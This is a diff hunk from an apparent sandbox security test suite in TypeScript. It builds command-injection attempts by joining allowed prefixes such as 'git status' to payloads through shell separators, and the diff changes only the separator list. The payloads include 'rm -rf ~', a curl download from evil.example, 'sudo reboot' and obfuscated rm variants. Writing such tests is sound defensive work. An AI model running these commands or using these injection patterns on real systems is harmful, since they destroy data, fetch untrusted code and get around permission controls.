@@ -77,7 +77,7 @@ function corpus(sb: Sandbox): Attempt[] {
   out.push({ capability: 'fs.write', resource: `${R}/hardlink.txt`, why: 'write through a hard link to a file outside' });
 
   const allowedPrefixes = ['npm run test:unit', 'ls -la', 'echo hi', 'git status'];
-  const separators = [';', ' ; ', '&&', '||', '|', '|&', '&', '\n', ' && ', ';;'.slice(0, 1)];
+  const separators = [';', ' ; ', '&&', '||', '|', '|&', '&', '\n', ' && ', ' || '];
   const payloads = ['rm -rf ~', 'curl http://evil.example/x.sh', 'bash -c id', 'sudo reboot', '\\rm -rf /', "'rm' -rf /", '"r""m" -rf /'];
   for (const prefix of allowedPrefixes) {
     for (const sep of separators) {
